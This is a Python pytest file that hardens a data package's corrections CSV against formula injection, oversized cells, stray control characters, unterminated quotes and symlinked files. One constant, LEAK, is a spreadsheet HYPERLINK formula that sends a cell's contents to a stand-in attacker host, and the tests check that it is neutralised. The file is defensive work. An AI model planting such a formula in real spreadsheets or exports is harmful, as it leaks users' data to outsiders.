"""The corrections file against an attacker and a careless hand (issue 20): a long note, a
formula, a carriage return or a tab in a note, an unterminated quote, a file that is a link.
Each test writes what broke the file before and shows it now breaks nothing else."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

import sco_data
from sco_data.cli import main
from sco_data.corpus.corrections import CORRECTIONS_FILE_NAME, MAX_CELL_CHARS, InvalidCorrection, read_corrections
from sco_data.corpus.corrections_csv import UNCLOSED, guard, records, row_text, unguard
from sco_data.corpus.corrections_file import CorrectionNotSaved, save_correction
from sco_data.explore.correcting import corrections_target

SEEDS = Path(__file__).resolve().parent.parent / "data" / "releases"
CALL = "rb04e3d5bc8e0bc74"  # the seed phone call with Le Yucheng, 29 April 2020
HENAN = "r89edcce67822133e"  # 9 May 2021, meeting He Jinping in Zhengzhou
HEADER = "release_id,field,value,note,corrected_at\n"
WHEN = "2026-01-02T03:04:05+00:00"
CSV_FIELD_LIMIT = 131_072  # the csv module's default field limit, which once decided for the whole file
LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'


@pytest.fixture()
def data(tmp_path: Path) -> Path:
    folder = tmp_path / "data"
    shutil.copytree(SEEDS, folder)
    return folder


def release(corpus: sco_data.Corpus, release_id: str) -> dict:
    return corpus.releases.set_index("release_id").loc[release_id].to_dict()


def invalid_rows(corpus: sco_data.Corpus) -> list[tuple[str, str]]:
    rows = corpus.report[corpus.report["status"] == "invalid"]
    return list(zip(rows["path"], rows["reason"]))


def test_a_note_over_the_limit_is_refused_at_save_and_the_file_unchanged(data: Path) -> None:
    path = data / CORRECTIONS_FILE_NAME
    save_correction(path, CALL, "event_date", "2020-04-30", "the next day", corrected_at=WHEN)
    before = path.read_bytes()
    with pytest.raises(InvalidCorrection, match=r"^note too long \(131,073 characters; at most 2,000\)$"):
        save_correction(path, CALL, "occasion", "Forum", "x" * (CSV_FIELD_LIMIT + 1))
    with pytest.raises(InvalidCorrection, match=r"^value too long"):
        save_correction(path, CALL, "occasion", "x" * (MAX_CELL_CHARS + 1))
    assert path.read_bytes() == before
    save_correction(path, CALL, "occasion", "Forum", "n" * MAX_CELL_CHARS)  # the limit itself is allowed
    assert release(sco_data.load_corpus(data, use_cache=False), CALL)["occasion"] == "Forum"


def test_a_cell_longer_than_the_csv_modules_limit_costs_only_its_own_row(data: Path, tmp_path: Path,
                                                                         capsys: pytest.CaptureFixture[str]) -> None:
    long_note = "x" * (CSV_FIELD_LIMIT * 2)
    (data / CORRECTIONS_FILE_NAME).write_text(
        HEADER + f"{CALL},event_date,2020-04-30,,\n{CALL},occasion,Forum,{long_note},\n"
        f"{HENAN},engagement_type,video_call,,\n", encoding="utf-8")
    corpus = sco_data.load_corpus(data, use_cache=False)
    assert release(corpus, CALL)["event_date"].date().isoformat() == "2020-04-30"  # rows before and after apply
    assert release(corpus, HENAN)["engagement_type"] == "video_call"
    assert invalid_rows(corpus) == [("sco-corrections.csv, line 3",
                                     "occasion: note too long (262,144 characters; at most 2,000); not applied")]
    assert csv.field_size_limit() == CSV_FIELD_LIMIT  # read without raising the process's limit
    out = tmp_path / "out.csv"
    assert main(["ingest", str(data), "-o", str(out)]) == 0
    assert "  invalid  sco-corrections.csv, line 3: occasion: note too long" in capsys.readouterr().out
    assert "video_call" in out.read_text(encoding="utf-8-sig")


def spreadsheet_cells(path: Path) -> list[list[str]]:
    """The cells as a spreadsheet's CSV import reads them (no quote taken off)."""
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_a_formula_is_written_behind_a_quote_and_applied_as_typed(data: Path, capsys) -> None:
    path = data / CORRECTIONS_FILE_NAME
    save_correction(path, CALL, "occasion", LEAK, "@SUM(1+1)", corrected_at=WHEN)
    save_correction(path, CALL, "counterparts", "add: Ivan Petrov", "-named in the caption", corrected_at=WHEN)
    save_correction(path, HENAN, "occasion", "'=not a formula", "'tis typed so", corrected_at=WHEN)
    cells = [cell for row in spreadsheet_cells(path)[1:] for cell in row]
    assert [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    assert spreadsheet_cells(path)[1][2:4] == ["'" + LEAK, "'@SUM(1+1)"]
    assert spreadsheet_cells(path)[3][2:4] == ["''=not a formula", "'tis typed so"]
    read = read_corrections(path)
    assert [(c.value, c.note) for c in read.corrections] == [
        (LEAK, "@SUM(1+1)"), ("add: Ivan Petrov", "-named in the caption"), ("'=not a formula", "'tis typed so")]
    corpus = sco_data.load_corpus(data, use_cache=False)
    assert release(corpus, CALL)["occasion"] == LEAK
    assert release(corpus, HENAN)["occasion"] == "'=not a formula"
    assert main(["corrections", "list", str(data)]) == 0
    listed = capsys.readouterr().out.splitlines()
    assert listed[1].split("\t")[3:5] == ["'" + LEAK, "'@SUM(1+1)"]  # as the file holds them: pasted, nothing runs


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x", "'tis", "'", "plain", ""])
def test_the_formula_guard_is_undone_exactly(cell: str) -> None:
    assert unguard(guard(cell)) == cell
    assert not guard(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_carriage_return_or_a_tab_in_a_note_keeps_its_row_whole(data: Path, capsys) -> None:
    path = data / CORRECTIONS_FILE_NAME
    note = "first line\rsecond\tcolumn\nthird line\r\n"
    save_correction(path, CALL, "occasion", "Forum", note, corrected_at=WHEN)
    save_correction(path, HENAN, "occasion", "Expo", "after it", corrected_at=WHEN)
    read = read_corrections(path)
    assert read.problems == ()
    assert [(c.line, c.note, c.corrected_at) for c in read.corrections] == [(2, note, WHEN), (6, "after it", WHEN)]
    assert main(["corrections", "list", str(data)]) == 0
    first = capsys.readouterr().out.splitlines()[1].split("\t")
    assert first == ["2", CALL, "occasion", "Forum", "first line\\rsecond\\tcolumn\\nthird line\\r\\n", WHEN, ""]


def test_an_unterminated_quote_is_one_invalid_row_and_the_rows_after_it_apply(data: Path) -> None:
    (data / CORRECTIONS_FILE_NAME).write_text(
        HEADER + f'{CALL},occasion,"Forum,never closed,\n{CALL},event_date,2020-04-30,,\n'
        f'{HENAN},occasion,"Expo, with a comma",,\n{HENAN},engagement_type,video_call,,\n', encoding="utf-8")
    corpus = sco_data.load_corpus(data, use_cache=False)
    assert release(corpus, CALL)["event_date"].date().isoformat() == "2020-04-30"
    assert (release(corpus, HENAN)["occasion"], release(corpus, HENAN)["engagement_type"]) == (
        "Expo, with a comma", "video_call")
    assert invalid_rows(corpus) == [
        ("sco-corrections.csv, line 2", f"no field: not a CSV row: {UNCLOSED}; not applied")]


def test_a_quote_never_closed_at_the_end_and_text_after_a_quote_are_rows_of_their_own() -> None:
    text = HEADER + 'r1,occasion,"a"b,,\nr2,occasion,ok,,\nr3,occasion,"open\n'
    found = [(record.line, record.cells[:3], record.problem) for record in records(text)][1:]
    assert found == [(2, (), "not a CSV row: text after a closing quote (a quote inside a quoted cell is written "
                              "twice)"),
                     (3, ("r2", "occasion", "ok"), None),
                     (4, (), f"not a CSV row: {UNCLOSED}")]


def test_a_multi_line_cell_is_read_and_one_that_swallows_rows_is_not() -> None:
    text = HEADER + 'r1,occasion,ok,"two\nlines",\nr2,occasion,"x\nr3,occasion,y,"n",\nr4,occasion,z,,\n'
    found = [(record.line, record.cells[:4], record.problem is None) for record in records(text)][1:]
    assert found == [(2, ("r1", "occasion", "ok", "two\nlines"), True), (4, (), False),
                     (5, ("r3", "occasion", "y", "n"), True), (6, ("r4", "occasion", "z", ""), True)]


def test_rows_are_written_with_the_files_line_ending_and_quoted_where_needed() -> None:
    assert row_text(["a", "b,c", 'd"e', "f\tg", " h", "=1"], "\r\n") == 'a,"b,c","d""e","f\tg"," h",\'=1\r\n'


def test_a_corrections_file_that_is_a_link_is_refused_and_never_replaced(data: Path, tmp_path: Path) -> None:
    outside = tmp_path / "private.csv"
    outside.write_text(HEADER + f"{CALL},occasion,secret from outside,private note,\n", encoding="utf-8")
    before = outside.read_bytes()
    link = data / CORRECTIONS_FILE_NAME
    link.symlink_to(outside)
    corpus = sco_data.load_corpus(data, use_cache=False)
    row = corpus.report.set_index("path").loc[CORRECTIONS_FILE_NAME]
    assert (row["status"], row["reason"]) == (
        "corrections", "corrections file not read: sco-corrections.csv is a symbolic link; corrections are read only from a "
                    "file itself")
    assert corpus.corrections.empty and release(corpus, CALL)["occasion"] != "secret from outside"
    with pytest.raises(CorrectionNotSaved, match="sco-corrections.csv is a symbolic link"):
        save_correction(link, CALL, "occasion", "Forum")
    assert link.is_symlink() and outside.read_bytes() == before
    assert corrections_target(data, SEEDS, read_only=False) == (
        None, "sco-corrections.csv is a symbolic link; corrections are kept only in a file of the folder itself")
